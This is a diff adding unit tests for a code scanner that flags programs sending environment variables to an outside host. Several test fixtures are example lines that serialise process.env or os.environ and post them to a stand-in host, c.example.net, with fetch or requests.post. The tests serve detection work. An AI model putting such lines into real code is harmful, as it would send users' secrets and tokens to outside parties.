@@ -35,6 +35,27 @@ requests.post("https://c.example.net", data=data)
   assert.deepEqual(kinds(text), ['system-facts-sent']);
 });
 
+test('one variable of the environment is not all of it', () => {
+  const sent = (code: string) => kinds(`${code}\nfetch("https://c.example.net", { body });\n`, 'javascript', 'a.js');
+  assert.deepEqual(sent('const env = process.env;\nconst body = JSON.stringify(env);'), ['environment-sent']);
+  assert.deepEqual(sent('const env = process.env;\nconst body = env.TOKEN;'), []);
+  assert.deepEqual(sent('const find = (env = process.env) => env.TOKEN;\nconst body = find();'), []);
+  assert.deepEqual(sent('const body = settings(given ?? process.env);'), []);
+  assert.deepEqual(kinds('e = os.environ\nrequests.post("https://c.example.net", json=list(e.items()))\n'), [
+    'environment-sent',
+  ]);
+  assert.deepEqual(kinds('rows = load_settings(os.environ)\nrequests.post("https://c.example.net", json=rows)\n'), []);
+});
+
+test('a short name that is given again and again stands for what was said near', () => {
+  const others = Array.from({ length: 20 }, (_, index) => `function f${index}(e) { var e = ${index}; }`).join('\n');
+  const text = `var e = process.env;\n${others}\n${' '.repeat(2_000)}\nfetch("https://c.example.net", { body: JSON.stringify(e) });\n`;
+  assert.deepEqual(kinds(text, 'javascript', 'a.js'), []);
+  const packed =
+    'function a(e = process.env) {}\nasync function b(e) { await fetch("https://c.example.net", { body: JSON.stringify(e) }); }\n';
+  assert.deepEqual(kinds(packed, 'javascript', 'a.js'), []);
+});
+
 test('what a regular expression looks for is not done', () => {
   const looksFor = 'const SEEN =\n  /fetch\\((?:url|eval)\\)|[/]eval\\(await fetch\\(x\\)\\)/;\nfetch(url);\n';
   assert.equal(readPlainCode(looksFor, 'javascript').text, 'const SEEN =\n  /\u2026/;\nfetch(url);\n');
